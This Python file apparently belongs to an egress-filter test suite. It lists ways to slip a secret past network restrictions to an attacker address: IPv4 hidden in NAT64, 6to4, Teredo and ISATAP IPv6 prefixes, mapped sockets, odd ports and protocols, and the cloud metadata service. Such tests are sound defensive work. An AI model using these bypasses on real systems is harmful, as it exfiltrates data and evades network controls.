"""Addresses that mean another one, or more than one thing."""

import ipaddress


def inside(prefix, at):
    """The attacker's IPv4 address, in an IPv6 address from bit `at` on."""
    number = int(ipaddress.ip_address(ATTACKER[V4])) << (128 - 32 - at)
    return str(ipaddress.ip_address(int(ipaddress.ip_address(prefix)) | number))


MEANT = {
    "by a translator (NAT64)": inside("64:ff9b::", 96),
    "by a translator's own prefix": inside("64:ff9b:1::", 96),
    "by a relay (6to4)": inside("2002::", 16),
    "by a relay (Teredo)": inside("2001::", 96),
    "by a tunnel (ISATAP)": inside("2001:db8:9::5efe:0:0", 96),
    "of a site": "fec0::66",
    "of a private network": "fd00::66",
    "of the documentation": "3fff::66",
}


def reach(scene, family, address):
    for port in (443, 4444):
        datagram = opened(family, socket.SOCK_DGRAM)
        attempt(datagram.sendto, SECRET, (address, port))
        stream = opened(family, socket.SOCK_STREAM)
        stream.setblocking(False)
        attempt(stream.connect, (address, port))
        time.sleep(0.02)
        attempt(stream.send, SECRET)


for called, address in MEANT.items():

    @way(f"an address {called}", families=(V6,))
    def meant(scene, address=address):
        reach(scene, socket.AF_INET6, address)


@way("an IPv4 address in a socket of IPv6", families=(V4,))
def mapped(scene):
    reach(scene, socket.AF_INET6, "::ffff:" + scene.target)


@way("an address that was never asked for")
def literal(scene):
    reach(scene, FAMILY[scene.family], scene.target)


@way("an allowed address, on other ports")
def ports(scene):
    for port in (1, 22, 25, 80, 444, 853, 8443, 65535):
        sending = scene.socket(socket.SOCK_DGRAM)
        attempt(sending.sendto, SECRET, (scene.allowed, port))


@way("an allowed address and port, by another protocol")
def protocol(scene):
    sending = scene.socket(socket.SOCK_DGRAM)
    attempt(sending.sendto, SECRET, (scene.allowed, 443))


@way("the address of the metadata service", families=(V4,))
def metadata(scene):
    reach(scene, socket.AF_INET, "169.254.169.254")
